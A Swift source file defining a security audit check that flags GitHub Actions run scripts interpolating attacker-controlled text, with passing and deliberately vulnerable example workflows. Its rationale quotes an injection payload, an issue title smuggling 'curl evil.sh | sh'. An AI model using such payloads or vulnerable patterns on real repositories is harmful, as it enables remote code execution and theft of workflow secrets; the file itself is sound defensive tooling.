import Foundation
import GroundworkAuditModel

/// No `run:` script pastes text a stranger controls (`${{ github.event.issue.title }}`) into the shell.
struct RunScriptsFreeOfInjectionCheck: Check {
    let id = "actions.script-injection"
    let title = "Run scripts never interpolate text an attacker controls"
    let severity = Severity.high
    let rationale =
        "`${{ }}` is replaced before the shell runs, so an issue title like `a\"; curl evil.sh | sh; \"` becomes a command with the workflow's token and secrets. Pass such values through `env:` and quote the variable (\"$TITLE\") instead."
    let fixedBy: [String] = []
    let effortHours = 1.0

    func evaluate(_ context: AuditContext) -> CheckOutcome {
        let files = WorkflowFile.workflows(in: context) + WorkflowFile.actions(in: context)
        guard !files.isEmpty else { return .notApplicable("no GitHub Actions workflow") }
        let evidence = files.flatMap { $0.problem.map { [$0] } ?? WorkflowInjectionScanner(file: $0).findings() }
        return evidence.isEmpty ? .passed : .failed(evidence)
    }

    var examples: [CheckExample] {
        [
            CheckExample(
                "the title passed through env", .pass,
                files: [
                    ".github/workflows/triage.yml": """
                    on:
                      issues:
                        types: [opened]
                    permissions:
                      issues: write
                    jobs:
                      triage:
                        runs-on: ubuntu-latest
                        steps:
                          - env:
                              TITLE: ${{ github.event.issue.title }}
                            run: |
                              echo "New issue: $TITLE"
                              echo "Number ${{ github.event.issue.number }}"
                    """
                ]),
            CheckExample(
                "the issue title in the script", .fail,
                files: [
                    ".github/workflows/triage.yml": """
                    on: issues
                    jobs:
                      triage:
                        runs-on: ubuntu-latest
                        steps:
                          - run: |
                              echo "triaging"
                              echo "${{ github.event.issue.title }}" >> titles.txt
                    """
                ]),
            CheckExample(
                "the branch name in a one-line script", .fail,
                files: [
                    ".github/workflows/ci.yml": "on: pull_request\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: git log origin/${{ github.head_ref }}\n"
                ]),
            CheckExample(
                "a comment body laundered through env and interpolated again", .fail,
                files: [
                    ".github/workflows/bot.yml":
                        "on: issue_comment\nenv:\n  BODY: ${{ github.event.comment.body }}\njobs:\n  bot:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ env.BODY }}\"\n"
                ]),
            CheckExample("no workflows", .notApplicable, files: ["README.md": ContentExampleTexts.readme]),
        ]
    }
}
